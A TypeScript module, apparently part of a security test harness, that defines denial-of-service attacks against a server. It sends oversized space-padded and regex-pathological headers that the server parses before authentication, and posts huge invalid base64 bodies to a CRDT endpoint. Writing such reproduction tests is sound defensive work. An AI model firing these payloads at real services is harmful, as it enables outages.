import { hostileTexts, textOf } from '../faults/hostile-messages.ts'
import { type Attack, call, counter, editorOf, post, together } from './attack.ts'

/** Lengths of headers in characters that the server accepts. */
const headerCharacters = 15_000
const longHeaderCharacters = 31_000
const headerNames = [
  'accept-encoding',
  'origin',
  'if-none-match',
  'x-forwarded-for',
  'range',
  'authorization',
]

/**
 * Sends headers on which a slow regular expression would try every position. The server reads these headers
 * before authentication.
 */
const spacesInHeader: Attack = {
  finding: 1,
  documents: [],
  prepare: async (target) => {
    const texts = [headerCharacters, longHeaderCharacters].map((length) => `gzip${' '.repeat(length)}x`)
    const next = counter()
    return () =>
      together(2, () =>
        call(target, '/console/main.js', {
          headers: { 'accept-encoding': texts[next() % texts.length] ?? '' },
        }),
      )
  },
}

const textsInHeaders: Attack = {
  finding: 1,
  documents: [],
  prepare: async (target) => {
    const next = counter()
    const sound = hostileTexts.filter(({ pump, suffix }) => /^[\t -~]*$/.test(pump + suffix))
    return async () => {
      const turn = next()
      const shape = sound[turn % sound.length]
      const text = shape === undefined ? '' : `a${textOf(shape, headerCharacters)}a`
      const headers = { [headerNames[turn % headerNames.length] ?? 'origin']: text }
      await call(target, turn % 2 === 0 ? '/console/main.js' : '/v2/crdt/get', { headers })
    }
  },
}

/** Sends bodies with members that are not valid base64. */
const textsInBodies: Attack = {
  finding: 1,
  documents: ['texts'],
  prepare: async (target) => {
    const next = counter()
    const texts = [
      '='.repeat(60_000),
      `${'='.repeat(60_000)}A`,
      `A${'='.repeat(200_000)}A`,
      ' '.repeat(200_000),
    ]
    return async () => {
      const update = texts[next() % texts.length]
      await post(target, '/v2/crdt/apply', { ...editorOf('texts'), update, create: true })
    }
  },
}

export const textAttacks = { spacesInHeader, textsInHeaders, textsInBodies }
